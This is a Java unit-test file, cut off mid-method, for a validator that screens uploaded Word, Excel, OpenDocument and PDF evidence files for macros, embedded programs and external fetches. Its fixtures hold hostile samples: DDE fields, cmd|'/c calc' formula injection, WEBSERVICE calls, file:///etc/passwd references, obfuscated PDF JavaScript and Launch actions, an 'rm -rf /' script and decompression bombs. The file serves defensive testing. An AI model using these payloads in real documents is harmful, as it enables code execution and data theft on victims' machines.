package uk.gov.haringey.actionplan.service.status;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.poi.common.usermodel.HyperlinkType;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.usermodel.XSSFHyperlink;
import org.apache.poi.xssf.usermodel.XSSFName;
import org.apache.poi.xssf.usermodel.XSSFRow;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFSheetConditionalFormatting;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import uk.gov.haringey.actionplan.ProcessorTime;
import uk.gov.haringey.actionplan.service.Violation;
import uk.gov.haringey.actionplan.service.status.ReportProgress.Document;

import static org.assertj.core.api.Assertions.assertThat;

/** Documents that would run or fetch something, whatever their parts are called. */
class ActiveEvidenceTests {

	private static final String TYPES = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">%s</Types>";

	private static final String RELATIONSHIPS = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">%s</Relationships>";

	private static final String RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";

	private static final String CATALOG = "/Type /Catalog /Pages << /Type /Pages /Kids [] /Count 0 >>";

	private static final String ODF = "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" "
			+ "xmlns:script=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\" xmlns:draw=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\" "
			+ "xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\" "
			+ "xmlns:style=\"urn:oasis:names:tc:opendocument:xmlns:style:1.0\" xmlns:calcext=\"urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0\" "
			+ "xmlns:xlink=\"http://www.w3.org/1999/xlink\">%s</office:document-content>";

	@Test
	void aProgramIsFoundInAPartOfAnyName() throws IOException {
		for (String program : List.of("MZ\u0090\u0000\u0003", "\u007fELF\u0002\u0001\u0001",
				"\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1", "#!/bin/sh\nrm -rf /",
				"\u0001\u0002 of no known kind")) {
			assertThat(codes("plan.docx", word(Map.of("word/embeddings/thing1.bin", program))))
				.containsExactly("document.program");
			assertThat(codes("plan.docx", word(Map.of("word/media/image1.png", program))))
				.containsExactly("document.program");
		}
		assertThat(
				codes("plan.docx", word(Map.of("word/media/image1.jpeg", "\u00ff\u00d8\u00ff\u00e0\u0000\u0010JFIF"))))
			.isEmpty();
	}

	@Test
	void aTypeWithMacrosIsFoundWhereverItStands() throws IOException {
		String far = " ".repeat(1024 * 1024 + 1)
				+ "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.MacroEnabled.main+xml\"/>";

		assertThat(codes("plan.docx", word(Map.of("[Content_Types].xml", TYPES.formatted(far)))))
			.containsExactly("document.program");
	}

	@ParameterizedTest
	@ValueSource(strings = { "attachedTemplate", "frame", "image", "externalLinkPath", "subDocument", "video" })
	void whatIsFetchedFromElsewhereIsRefused(String kind) throws IOException {
		assertThat(codes("plan.docx", word(relation(kind, "https://example.org/x", "TargetMode=\"External\""))))
			.containsExactly("document.outside");
		assertThat(codes("plan.docx", word(relation(kind, "\\\\host\\share\\x", "TargetMode='external'"))))
			.containsExactly("document.outside");
	}

	@ParameterizedTest
	@ValueSource(strings = { "oleObject", "control", "vbaProject", "aFChunk" })
	void relationsToProgramsAreRefused(String kind) throws IOException {
		assertThat(codes("plan.docx", word(relation(kind, "media/image1.xml", ""))))
			.containsExactly("document.program");
	}

	@Test
	void ordinaryLinksAreTaken() throws IOException {
		assertThat(codes("plan.docx", word(relation("hyperlink", "https://example.org/", "TargetMode=\"External\""))))
			.isEmpty();
		assertThat(codes("plan.docx", word(relation("hyperlink", "mailto:a@example.org", "TargetMode=\"External\""))))
			.isEmpty();
		assertThat(codes("plan.docx", word(relation("hyperlink", "javascript:alert(1)", "TargetMode=\"External\""))))
			.containsExactly("document.program");
		assertThat(codes("plan.odt", openDocument("<text:a xlink:href=\"https://example.org\">x</text:a>"))).isEmpty();
		assertThat(codes("plan.docx", ofOfficeProgram())).isEmpty();
	}

	@Test
	void aFieldThatStartsAProgramIsFoundInPieces() throws IOException {
		String field = "<w:document xmlns:w=\"w\"><w:instrText> DD</w:instrText><w:t/><w:instrText>EAUTO c:\\x</w:instrText></w:document>";
		assertThat(codes("plan.docx", word(Map.of("word/document.xml", field)))).containsExactly("document.program");
		assertThat(codes("plan.docx", word(Map.of("word/document.xml", field.replace("DD", "PA"))))).isEmpty();
	}

	@ParameterizedTest
	@CsvSource({ "' DDE Excel a.xls R1C1 ', document.program", "' ddeauto c:\\x ', document.program",
			"' INCLUDEPICTURE \"http://example.org/x.png\" ', document.outside",
			"' IncludeText \"\\\\host\\x.docx\" ', document.outside", "' LINK Excel.Sheet.8 x ', document.outside",
			"' HYPERLINK \"https://example.org/added-value/hidden\" ', ''", "' TOC \\o ', ''", "' PAGE ', ''" })
	void aFieldIsJudgedByItsFirstWord(String instruction, String code) throws IOException {
		String expected = code.isEmpty() ? "[]" : "[" + code + "]";
		String field = "<w:document xmlns:w=\"w\"><w:fldChar w:fldCharType=\"begin\"/><w:instrText> PAGE </w:instrText>"
				+ "<w:fldChar w:fldCharType=\"end\"/><w:fldChar w:fldCharType=\"begin\"/><w:instrText>" + instruction
				+ "</w:instrText><w:fldChar w:fldCharType=\"end\"/></w:document>";
		String simple = "<w:document xmlns:w=\"w\"><w:fldSimple w:instr=\"" + instruction.replace("\"", "&quot;")
				+ "\"/></w:document>";
		assertThat(codes("plan.docx", word(Map.of("word/document.xml", field)))).hasToString(expected);
		assertThat(codes("plan.docx", word(Map.of("word/document.xml", simple)))).hasToString(expected);
	}

	@Test
	void aFormulaThatFetchesSomethingIsRefused() throws IOException {
		String sheet = "<worksheet><sheetData><row><c><f>%s</f></c></row></sheetData></worksheet>";
		for (String formula : List.of("_xlfn.WEBSERVICE(\"http://example.org/\"&amp;A1)",
				"_xlfn.IMAGE(\"http://x\")")) {
			assertThat(codes("plan.docx", word(Map.of("xl/worksheets/sheet1.xml", sheet.formatted(formula)))))
				.containsExactly("document.outside");
		}
		assertThat(codes("plan.docx", word(Map.of("xl/worksheets/sheet1.xml", sheet.formatted("SUM(A1:A2)")))))
			.isEmpty();
	}

	@ParameterizedTest
	@ValueSource(strings = { "<office:script script:language=\"Basic\"/>",
			"<script:event-listener script:event-name=\"dom:load\" xlink:href=\"vnd.sun.star.script:x\"/>",
			"<draw:object-ole xlink:href=\"./Object 1\"/>", "<draw:plugin xlink:href=\"x\"/>",
			"<draw:floating-frame xlink:href=\"x\"/>", "<text:execute-macro/>", "<office:dde-source/>",
			"<text:a xlink:href=\"macro:///x\">x</text:a>" })
	void openDocumentsWithProgramsAreRefused(String element) throws IOException {
		assertThat(codes("plan.odt", openDocument(element))).containsExactly("document.program");
	}

	@ParameterizedTest
	@ValueSource(strings = { "<draw:image xlink:href=\"https://example.org/x.png\"/>",
			"<text:section-source xlink:href=\"file:///etc/passwd\"/>",
			"<draw:object xlink:href=\"//host/share/x\"/>" })
	void openDocumentsThatFetchSomethingAreRefused(String element) throws IOException {
		assertThat(codes("plan.odt", openDocument(element))).containsExactly("document.outside");
	}

	@Test
	void aDocumentInADocumentIsJudgedAsOne() throws IOException {
		String harmless = new String(word(Map.of()), StandardCharsets.ISO_8859_1);
		String harmful = new String(word(relation("oleObject", "x", "")), StandardCharsets.ISO_8859_1);

		assertThat(codes("plan.docx", word(Map.of("word/embeddings/sheet1.xlsx", harmless)))).isEmpty();
		assertThat(codes("plan.docx", word(Map.of("word/embeddings/sheet1.xlsx", harmful))))
			.containsExactly("document.program");
		assertThat(codes("plan.docx",
				word(Map.of("word/media/image1.png",
						new String(zip(Map.of("a.exe", "MZ")), StandardCharsets.ISO_8859_1)))))
			.containsExactly("document.program");
	}

	@Test
	void aDocumentIsBoundedOnceItIsUnpacked() throws IOException {
		assertThat(codes("plan.docx", word(Map.of("word/styles.xml", "<a>" + "<b/>".repeat(2_600_000) + "</a>"))))
			.isEmpty();
		assertThat(codes("plan.docx", word(Map.of("word/styles.xml", "<a>" + "<b/>".repeat(5_100_000) + "</a>"))))
			.containsExactly("document.unpacked");
		assertThat(codes("plan.docx", word(Map.of("word/styles.xml", "<a><b></a>"))))
			.containsExactly("document.damaged");
	}

	@Test
	void aPdfThatRunsSomethingIsRefusedHoweverItIsPacked() {
		assertThat(codes("a.pdf",
				TestPdf.of((document) -> open(document, new PDActionJavaScript("app.alert(1)").getCOSObject()))))
			.containsExactly("document.program");
		assertThat(codes("a.pdf",
				TestPdf.packed((document) -> open(document, new PDActionJavaScript("app.alert(1)").getCOSObject()))))
			.containsExactly("document.program");
		assertThat(codes("a.pdf", TestPdf.packed((document) -> open(document, new PDActionLaunch().getCOSObject()))))
			.containsExactly("document.program");
		assertThat(codes("a.pdf", TestPdf.packed((document) -> open(document, new PDActionURI().getCOSObject()))))
			.containsExactly("document.program");
		for (String key : List.of("EmbeddedFiles", "JavaScript")) {
			assertThat(codes("a.pdf", TestPdf.packed((document) -> {
				COSDictionary names = new COSDictionary();
				names.setItem(COSName.getPDFName(key), new COSDictionary());
				document.getDocumentCatalog().getCOSObject().setItem(COSName.NAMES, names);
			}))).containsExactly("document.program");
		}
		assertThat(codes("a.pdf", TestPdf.packed((document) -> {
		}))).isEmpty();
		assertThat(codes("a.pdf", TestPdf.packed((document) -> {
			COSDictionary words = new COSDictionary();
			words.setItem(COSName.getPDFName("Said"), new COSString("/JavaScript as words"));
			document.getDocumentCatalog().getCOSObject().setItem(COSName.getPDFName("Words"), words);
		}))).isEmpty();
	}

	@Test
	void aNameThatIsWrittenInNumbersIsReadAllTheSame() {
		String pdf = "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /OpenAction << /S /J#61vaScr#69pt /JS (x) >> >>\nendobj\n";

		assertThat(codes("a.pdf", pdf.getBytes(StandardCharsets.US_ASCII))).containsExactly("document.program");
	}

	@Test
	void anEncryptedPdfIsRefusedSinceItsPartsCannotBeSeen() {
		String pdf = "%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R /Encrypt << /Filter /Standard >> >>\n";

		assertThat(codes("a.pdf", pdf.getBytes(StandardCharsets.US_ASCII))).containsExactly("document.password");
	}

	@Test
	void aPdfIsBoundedOnceItIsUnpacked() throws IOException {
		assertThat(codes("a.pdf", ofObjects("/Filter /FlateDecode /N 1 /First 4", packed(40 * 1024 * 1024))))
			.containsExactly("document.unpacked");
		assertThat(codes("a.pdf", ofObjects("/Filter [/FlateDecode /FlateDecode] /N 1 /First 4", packed(100))))
			.containsExactly("document.damaged");
		assertThat(codes("a.pdf", ofObjects("/Filter /FlateDecode /N 2000000000 /First 4", packed(100))))
			.containsExactly("document.damaged");
		assertThat(codes("a.pdf",
				ofObjects("/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 2000000000 >> /N 1 /First 4",
						packed(100))))
			.containsExactly("document.unpacked");
		assertThat(codes("a.pdf", ("%PDF-1.7\n" + "[".repeat(1_100_000)).getBytes(StandardCharsets.US_ASCII)))
			.containsExactly("document.unpacked");
		assertThat(codes("a.pdf", ("%PDF-1.7\n" + "<<>>".repeat(200_000)).getBytes(StandardCharsets.US_ASCII)))
			.containsExactly("document.damaged");
	}

	@ParameterizedTest
	@ValueSource(strings = { "of:=DDE(\"soffice\";\"/etc/passwd\";\"A1\")", "of:=WEBSERVICE   (\"http://example.org\")",
			"of:=COM.MICROSOFT.WEBSERVICE(\"http://example.org\")", "of:=1+dde\n\n (\"x\";\"y\";\"z\")",
			"msoxl:=_xlfn.WEBSERVICE\t(\"http://example.org\")", "msoxl:=cmd|'/c calc'!A0",
			"of:=['file:///srv/other.ods'#$Sheet1.A1]", "of:=['../other.ods'#$Sheet1.A1]",
			"of:=RTD(\"progid\";\"\";\"x\")" })
	void aFormulaOfAnOpenDocumentIsJudgedWhereverItStands(String formula) throws IOException {
		for (String carrier : List.of("<table:table-cell table:formula=\"%s\"/>",
				"<table:content-validation table:condition=\"%s\"/>",
				"<table:named-expression table:expression=\"%s\"/>", "<style:map style:condition=\"%s\"/>",
				"<calcext:condition calcext:value=\"formula-is(%s)\"/>",
				"<calcext:formatting-entry calcext:value=\"%s\"/>", "<text:variable-set text:formula=\"%s\"/>")) {
			assertThat(codes("plan.ods", spreadsheet(carrier.formatted(attribute(formula))))).as(carrier)
				.containsExactly("document.outside");
		}
	}

	@ParameterizedTest
	@CsvSource({ "<table:dde-link/>, document.program", "<office:dde-source/>, document.program",
			"<table:table-source xlink:href=\"other.ods\"/>, document.outside",
			"<table:cell-range-source xlink:href=\"other.ods\"/>, document.outside",
			"<table:database-source-sql/>, document.outside",
			"<text:section-source xlink:href=\"../x.odt\"/>, document.outside",
			"<draw:image xlink:href=\"/srv/x.png\"/>, document.outside" })
	void aSpreadsheetThatTakesCellsFromElsewhereIsRefused(String element, String code) throws IOException {
		assertThat(codes("plan.ods", spreadsheet(element))).containsExactly(code);
	}

	@Test
	void anOrdinarySpreadsheetIsTaken() throws IOException {
		String cells = """
				<table:table-cell table:formula="of:=SUM([.A1:.A9])+[$'Image (2)'.A1]"/>
				<table:table-cell table:formula="of:=HYPERLINK(&quot;https://example.org&quot;;&quot;See it&quot;)"/>
				<table:table-cell table:formula="of:=SUM({1;2|3;4})&amp;&quot;a|b&quot;"/>
				<table:table-cell table:formula="of:=ADDED([.A1])+NAMEDDE([.A2])"/>
				<table:content-validation table:condition="of:cell-content-is-in-list(&quot;Call (urgent)&quot;;&quot;Late&quot;)"/>
				<table:named-expression table:expression="of:=[$One.$A$1]*2"/>
				<table:named-range table:cell-range-address="$One.$A$1:.$B$2"/>
				<table:database-range table:name="All" table:target-range-address="One.A1:One.B2"/>
				<calcext:condition calcext:value="formula-is([.A1]&gt;3)"/>
				<text:p>Call the helpline (free), image (see below), cmd|'/c calc'!A0</text:p>
				<text:a xlink:href="https://example.org">x</text:a><draw:image xlink:href="Pictures/x.png"/>
				<draw:object xlink:href="./Object 1"/>""";

		assertThat(codes("plan.ods", spreadsheet(cells))).isEmpty();
		assertThat(codes("plan.ods",
				spreadsheet("",
						Map.of("Object 1/content.xml", ODF.formatted("<draw:image xlink:href=\"../Pictures/x.png\"/>"),
								"meta.xml", ODF.formatted("<template xlink:href=\"../Templates/x.ott\"/>")))))
			.isEmpty();
	}

	@ParameterizedTest
	@ValueSource(strings = { "cmd|'/c calc'!A0", "1+cmd | '/c calc'!A0", "MSEXCEL|'\\..\\cmd.exe /c ''calc'' '!A0",
			"Excel|Sheet1!R1C1", "_xlfn.WEBSERVICE \n (\"http://x\")", "_xlfn.IMAGE(\"http://x\")",
			"DDE(\"a\",\"b\",\"c\")", "'\\\\host\\share\\[x.xlsx]One'!A1", "'file:///x.xlsx'!A1",
			"RTD(\"progid\",,\"x\")", "REGISTER.ID(\"x.dll\",\"y\")", "Table1[[\"]]&_xlfn.WEBSERVICE(\"http://x\")" })
	void aFormulaOfAWorkbookIsJudgedWhereverItStands(String formula) throws IOException {
		for (String carrier : List.of("<c><f>%s</f></c>", "<x14:f xmlns:x14=\"x\">%s</x14:f>",
				"<definedName name=\"a\">%s</definedName>", "<cfRule><formula>%s</formula></cfRule>",
				"<dataValidation><formula1>%s</formula1></dataValidation>",
				"<dataValidation><formula1>1</formula1><formula2>%s</formula2></dataValidation>",
				"<calculatedColumnFormula>%s</calculatedColumnFormula>", "<totalsRowFormula>%s</totalsRowFormula>")) {
			assertThat(codes("plan.xlsx", workbook(carrier.formatted(attribute(formula))))).as(carrier)
				.containsExactly("document.outside");
		}
		assertThat(codes("plan.xlsx", workbook("<cfvo type=\"formula\" val=\"" + attribute(formula) + "\"/>")))
			.containsExactly("document.outside");
	}

	@Test
	void nothingHidesInAFormula() throws IOException {
		assertThat(codes("plan.xlsx", workbook("<f><oleObject/></f>"))).containsExactly("document.program");
		assertThat(codes("plan.xlsx", workbook("<f><f>1</f>WEBSERVICE(1)</f>"))).containsExactly("document.outside");
		assertThat(codes("plan.docx",
				word(Map.of("word/document.xml", "<d><m:f xmlns:m=\"m\"><m:num><altChunk/></m:num></m:f></d>"))))
			.containsExactly("document.program");
		assertThat(codes("plan.docx", word(Map.of("word/document.xml", "<d><instrText><altChunk/></instrText></d>"))))
			.containsExactly("document.program");
	}

	@Test
	void anOrdinaryWorkbookIsTaken() throws IOException {
		String cells = """
				<c><f>SUM(A1:A9)</f></c><c><f t="shared" ref="A1:A3" si="0">'Image (2)'!A1</f></c>
				<c><f>A1&amp;"|"&amp;Sheet2!B1&amp;'Q1|Q2'!C1</f></c><c><f>HYPERLINK("https://example.org","x")</f></c>
				<c><f>VLOOKUP(A1,Table1[[#All],[Ref]],2,FALSE)+Table1['#Open]</f></c><c><f>"it's on|track"</f></c>
				<definedName name="Print_Area">'Plan'!$A$1:$B$9</definedName>
				<cfRule><formula>AND($A1&gt;3,RECALL(B1))</formula></cfRule><cfvo type="num" val="3"/>
				<dataValidation><formula1>"On track,Call (urgent),Image (late)"</formula1><formula2>9</formula2></dataValidation>
				<calculatedColumnFormula>Table1[[#This Row],[Due]]+7</calculatedColumnFormula>
				<t>cmd|'/c calc'!A0 and image (1)</t><hyperlink ref="A1" location="'Plan'!A1"/>""";
		assertThat(codes("plan.xlsx", workbook(cells))).isEmpty();
		for (String kind : List.of("table", "drawing", "comments", "customXml", "pivotTable", "printerSettings",
				"chart", "calcChain", "package")) {
			assertThat(codes("plan.xlsx", with("xl/_rels/workbook.xml.rels", RELATION, kind, "../a/b.xml", "")))
				.as(kind)
				.isEmpty();
		}
		assertThat(codes("plan.xlsx", ofSheetProgram())).isEmpty();
	}

	@ParameterizedTest
	@CsvSource({ "connections, document.outside", "externalLink, document.outside",
			"externalLinkPath, document.outside", "queryTable, document.outside", "attachedTemplate, document.outside",
			"frame, document.outside", "subDocument, document.outside", "mailMergeSource, document.outside",
			"oleObject, document.program", "aFChunk, document.program", "webextension, document.program" })
	void aRelationIsRefusedWhateverThePartIsCalled(String kind, String code) throws IOException {
		for (String space : List.of(RELATION, "http://purl.oclc.org/ooxml/officeDocument/relationships/")) {
			assertThat(codes("plan.xlsx", with("xl/_rels/workbook.xml.rels", space, kind, "some/part.xml", "")))
				.as(space)
				.containsExactly(code);
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "spreadsheetml.connections", "spreadsheetml.externalLink", "spreadsheetml.queryTable" })
	void aTypeThatFetchesSomethingIsRefused(String type) throws IOException {
		String types = "<Override PartName=\"/xl/a.xml\" ContentType=\"application/vnd.openxmlformats-officedocument."
				+ type + "+xml\"/>";

		assertThat(codes("plan.xlsx", workbook("", Map.of("[Content_Types].xml", TYPES.formatted(types)))))
			.containsExactly("document.outside");
	}

	@ParameterizedTest
	@ValueSource(strings = { "\\\\server\\x", "//server/x", "\\/server/x", "file:///srv/x", "FILE:x",
			"https://example.org/x", " http://example.org", "ms-word:x", "C:\\x" })
	void aTargetElsewhereIsRefusedWithoutSayingSo(String target) throws IOException {
		for (String kind : List.of("image", "worksheet", "hyperlink", "anything")) {
			assertThat(codes("plan.docx", word(relation(kind, target, "")))).as(kind)
				.containsExactly("document.outside");
			assertThat(codes("plan.docx", word(relation(kind, target, "TargetMode=\"Internal\"")))).as(kind)
				.containsExactly("document.outside");
		}
	}

	@Test
	void theSchemeOfALinkIsReadAsBrowsersReadIt() throws IOException {
		assertThat(
				codes("plan.docx", word(relation("hyperlink", "java&#9;script:alert(1)", "TargetMode=\"External\""))))
			.containsExactly("document.program");
	}

	@ParameterizedTest
	@CsvSource({ "INCLUDETEXT, document.outside", "INCLUDEPICTURE, document.outside", "LINK, document.outside",
			"IMPORT, document.outside", "DDE, document.program", "DDEAUTO, document.program" })
	void aFieldIsFoundHoweverItIsSplit(String kind, String code) throws IOException {
		String begin = "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>";
		String end = "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:t>x</w:t><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
		String page = begin + "<w:instrText> PAGE </w:instrText>" + end;
		StringBuilder letters = new StringBuilder();
		for (char letter : kind.toCharArray()) {
			letters.append("<w:r><w:rPr/><w:instrText>").append(letter).append("</w:instrText></w:r>");
		}
		String first = "<w:instrText>" + kind.charAt(0) + "</w:instrText>";
		String rest = "<w:instrText>" + kind.substring(1) + " x</w:instrText>";
		for (String field : List.of(begin + letters + end, letters.toString(), begin + letters,
				page + begin + letters + end, begin + "<w:instrText> IF </w:instrText>" + begin + letters + end + end,
				// Its result becomes a letter of the outer one.
				begin + first + page + rest + end, begin + page + rest + end,
				begin + "<w:delInstrText>X</w:delInstrText>" + letters + end,
				begin + "<w:delInstrText>" + kind + "</w:delInstrText><w:instrText>PAGE</w:instrText>" + end,
				begin + first + "<w:t>" + kind.substring(1) + "</w:t>" + end)) {
			assertThat(codes("plan.docx", word(Map.of("word/document.xml", body(field))))).as(field)
				.hasSize(1)
				.isSubsetOf(code, "document.program");
		}
	}

	@Test
	void ordinaryFieldsAreTaken() throws IOException {
		String begin = "<w:fldChar w:fldCharType=\"begin\"/>";
		String end = "<w:fldChar w:fldCharType=\"separate\"/><w:t>DDE is a word</w:t><w:fldChar w:fldCharType=\"end\"/>";
		String page = begin + "<w:instrText> PAGE </w:instrText>" + end;
		for (String field : List.of(page,
				begin + "<w:instrText> IF </w:instrText>" + page + "<w:instrText> = 1 LINK</w:instrText>" + end,
				begin + "<w:instrText>=</w:instrText>" + page + "<w:instrText>+1</w:instrText>" + end,
				begin + "<w:instrText> TOC \\o </w:instrText><w:fldChar w:fldCharType=\"separate\"/>" + page
						+ "<w:fldChar w:fldCharType=\"end\"/>",
				"<w:t>LINK this and DDE that</w:t>")) {
			assertThat(codes("plan.docx", word(Map.of("word/document.xml", body(field))))).as(field).isEmpty();
		}
	}

	@Test
	void documentsInADocumentAreBoundedTogether() throws IOException {
		String inner = new String(zip(Map.of("[Content_Types].xml", TYPES.formatted(""), "word/document.xml",
				"<x>" + " ".repeat(30 * 1024 * 1024) + "</x>")), StandardCharsets.ISO_8859_1);
		Map<String, String> parts = new LinkedHashMap<>();
		for (int part = 0; part < 20; part++) {
			parts.put("word/embeddings/sheet" + part + ".xlsx", inner);
		}

		assertThat(codes("plan.docx", word(parts))).containsExactly("document.unpacked");
	}

	@Test
	void aPdfIsBoundedInItsNumbersToo() throws IOException {
		for (String value : List.of("7 ", "999 ", "+7 ", ".5 ", "null ", "true1 ", "7 0 R ")) {
			byte[] many = ("%PDF-1.7\n1 0 obj\n<< " + CATALOG + " /X [" + value.repeat(1_100_000) + "] >>\nendobj\n")
				.getBytes(StandardCharsets.US_ASCII);
			assertThat(codes("a.pdf", many)).as(value).containsExactly("document.unpacked");
		}
		assertThat(codes("a.pdf", ofObjects("/Filter /FlateDecode /N 1 /First 4", packed("300 ", 2 * 1024 * 1024))))
			.containsExactly("document.unpacked");
		assertThat(codes("a.pdf", TestPdf.of((document) -> TestPdf.stream(document,
				"0.5 700 Td\n".repeat(300_000).getBytes(StandardCharsets.US_ASCII)))))
			.isEmpty();
	}

	@ParameterizedTest
	@ValueSource(strings = { "/OpenAction << /S /URI /URI (http://x) >>",
			"/OpenAction << /S /GoToR /F (\\\\host\\x.pdf) >>",
			"/OpenAction << /S /GoTo /D [0] /Next << /S /URI /URI (http://x) >> >>",
			"/AA << /WC << /S /URI /URI (x) >> >>", "/Other << /S /Launch /F (x) >>",
			"/Other << /S /Laun#63h /F (x) >>", "/Other << /S /SubmitForm >>", "/Other << /S /ImportData >>",
			"/Other << /S /GoToR /F (x.pdf) >>", "/Other << /Ref << /F (x.pdf) /Page 0 >> >>",
			"/Other << /S /GoTo#45 >>", "/Other << /Subtype /RichMedia >>", "/Names << /EmbeddedFiles << >> >>",
			"/Names << /Embedded#46iles << >> >>", "/AcroForm << /XFA [] >>", "/AcroForm << /X#46A [] >>",
			"/Other << /S /J#61vaScript >>", "/Other << /#4aS (x) >>", "/Other << /S /URI /URI (javascript:x) >>" })
	void aPdfWithAProgramIsRefusedWhereverItStands(String entry) throws IOException {
		String catalog = "<< " + CATALOG + " " + entry + " >>";
		byte[] harmless = ofObjects("/Filter /FlateDecode /N 1 /First 4", packed("", 0));
		assertThat(codes("a.pdf", harmless)).isEmpty();

		assertThat(codes("a.pdf", plain("<< " + CATALOG + " >>"))).isEmpty();
		assertThat(codes("a.pdf", plain(catalog))).containsExactly("document.program");
		assertThat(codes("a.pdf", ofObjects("/Filter /FlateDecode /N 1 /First 4", packedObject(catalog))))
			.containsExactly("document.program");
		assertThat(codes("a.pdf", updated(harmless, catalog))).containsExactly("document.program");
		assertThat(codes("a.pdf", updated(harmless, "<< " + CATALOG + " >>"))).isEmpty();
	}

	@Test
	void whatAnUpdateOfAPdfReplacedIsLookedAtToo() throws IOException {
		byte[] harmful = ofObjects("/Filter /FlateDecode /N 1 /First 4",
				packedObject("<< " + CATALOG + " /OpenAction << /S /JavaScript /JS (x) >> >>"));

		assertThat(codes("a.pdf", updated(harmful, "<< " + CATALOG + " >>"))).containsExactly("document.program");
	}

	/** A PDF whose catalogue stands in its bytes as it is. */
	private static byte[] plain(String catalog) {
		String object = "%PDF-1.7\n1 0 obj\n" + catalog + "\nendobj\n";
		String table = "xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \ntrailer\n<< /Size 2 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n"
			.formatted(object.length());
		return (object + table).getBytes(StandardCharsets.ISO_8859_1);
	}

	/** A PDF to which a further catalogue was written, as programs save a change. */
	private static byte[] updated(byte[] before, String catalog) throws IOException {
		String text = new String(before, StandardCharsets.ISO_8859_1);
		int table = text.lastIndexOf("3 0 obj");
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.write(before);
		int object = out.size();
		out.write(("1 0 obj\n" + catalog + "\nendobj\n").getBytes(StandardCharsets.ISO_8859_1));
		int start = out.size();
		out.write("xref\n1 1\n%010d 00000 n \ntrailer\n<< /Size 4 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
			.formatted(object, table, start)
			.getBytes(StandardCharsets.US_ASCII));
		return out.toByteArray();
	}

	/** A PDF whose catalogue stands in a stream of objects. */
	private static byte[] ofObjects(String described, byte[] objects) throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		out.write("%PDF-1.7\n".getBytes(StandardCharsets.US_ASCII));
		int stream = out.size();
		out.write("2 0 obj\n<< /Type /ObjStm %s /Length %d >>\nstream\n".formatted(described, objects.length)
			.getBytes(StandardCharsets.US_ASCII));
		out.write(objects);
		out.write("\nendstream\nendobj\n".getBytes(StandardCharsets.US_ASCII));
		int table = out.size();
		byte[] entries = { 0, 0, 0, 0, 2, 0, 2, 0, 1, (byte) (stream >> 8), (byte) stream, 0, 1, (byte) (table >> 8),
				(byte) table, 0 };
		out.write("3 0 obj\n<< /Type /XRef /Size 4 /W [1 2 1] /Root 1 0 R /Length %d >>\nstream\n"
			.formatted(entries.length)
			.getBytes(StandardCharsets.US_ASCII));
		out.write(entries);
		out.write("\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n".formatted(table).getBytes(StandardCharsets.US_ASCII));
		return out.toByteArray();
	}

	private static byte[] packed(int blanks) throws IOException {
		return packed(" ", blanks);
	}

	private static byte[] packed(String text, int count) throws IOException {
		return packedObject("<< " + CATALOG + " /X [" + text.repeat(count) + "] >>");
	}

	private static byte[] packedObject(String object) throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (DeflaterOutputStream packed = new DeflaterOutputStream(out, new Deflater(Deflater.BEST_COMPRESSION))) {
			packed.write(("1 0 " + object).getBytes(StandardCharsets.ISO_8859_1));
		}
		return out.toByteArray();
	}

	private static void open(PDDocument document, COSDictionary action) {
		document.getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, action);
	}

	private static List<String> codes(String name, byte[] content) {
		List<String> codes = new ArrayList<>();
		assertThat(ProcessorTime.of(() -> EvidenceRules.check(List.of(new Document(name, "", content)))
			.stream()
			.map(Violation::code)
			.forEach(codes::add))).as("milliseconds of a processor").isLessThan(6_000);
		return codes;
	}

	private static Map<String, String> relation(String kind, String target, String mode) {
		return relations("word/_rels/document.xml.rels", RELATION, kind, target, mode);
	}

	private static byte[] word(Map<String, String> further) throws IOException {
		Map<String, String> parts = new LinkedHashMap<>();
		parts.put("[Content_Types].xml", TYPES.formatted(""));
		parts.put("word/document.xml", "<x/>");
		parts.putAll(further);
		return zip(parts);
	}

	private static Map<String, String> relations(String part, String space, String kind, String target, String mode) {
		return Map.of(part, RELATIONSHIPS.formatted(
